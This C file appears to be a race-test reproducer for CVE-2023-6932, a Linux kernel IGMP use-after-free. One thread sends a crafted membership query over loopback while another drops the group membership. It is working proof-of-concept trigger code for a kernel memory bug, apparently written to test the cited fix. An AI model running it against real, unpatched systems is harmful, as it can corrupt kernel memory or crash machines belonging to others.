// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * CVE-2023-6932, mended by e2b706c69190 ("ipv4: igmp: fix refcnt uaf issue when receiving
 * igmp query packet"). Side a sends a membership query over the loopback interface, which is
 * received in the softirq of its own CPU and starts the timer of each group; side b leaves the
 * group.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/igmp.h>
#include <netinet/in.h>
#include <net/if.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#include "race.h"

#define GROUP	0xe8010203	/* 232.1.2.3 */

static int raw, member = -1;
static struct igmphdr query;
static struct sockaddr_in everybody;
static struct ip_mreqn group;

static void allow_multicast(void)
{
	struct ifreq request = { .ifr_name = "lo" };

	if (ioctl(raw, SIOCGIFFLAGS, &request))
		race_die("SIOCGIFFLAGS");
	request.ifr_flags |= IFF_MULTICAST | IFF_UP;
	if (ioctl(raw, SIOCSIFFLAGS, &request))
		race_die("SIOCSIFFLAGS");
	group.imr_ifindex = if_nametoindex("lo");
}

static unsigned short sum(const void *data, size_t size)
{
	const unsigned short *words = data;
	unsigned int total = 0;

	for (size_t i = 0; i < size / 2; i++)
		total += words[i];
	total = (total & 0xffff) + (total >> 16);
	return ~(total + (total >> 16));
}

static void setup(void)
{
	raw = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_IGMP);
	if (raw < 0)
		race_die("a raw socket");
	allow_multicast();
	if (setsockopt(raw, IPPROTO_IP, IP_MULTICAST_IF, &group, sizeof(group)))
		race_die("IP_MULTICAST_IF");
	group.imr_multiaddr.s_addr = htonl(GROUP);
	query = (struct igmphdr){ .type = IGMP_HOST_MEMBERSHIP_QUERY, .code = 100 };
	query.group = htonl(GROUP);
	query.csum = sum(&query, sizeof(query));
	everybody = (struct sockaddr_in){ .sin_family = AF_INET };
	everybody.sin_addr.s_addr = htonl(GROUP);
}

static void prepare(void)
{
	if (member >= 0)
		close(member);
	member = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (member < 0 ||
	    setsockopt(member, IPPROTO_IP, IP_ADD_MEMBERSHIP, &group, sizeof(group)))
		race_die("IP_ADD_MEMBERSHIP");
}

static void a(void)
{
	race_said.a = sendto(raw, &query, sizeof(query), 0, (struct sockaddr *)&everybody,
			     sizeof(everybody)) < 0 ? errno : 0;
}

static void b(void)
{
	race_said.b = setsockopt(member, IPPROTO_IP, IP_DROP_MEMBERSHIP, &group, sizeof(group)) ?
		      errno : 0;
}

RACE(.setup = setup, .prepare = prepare, .a = a, .b = b);
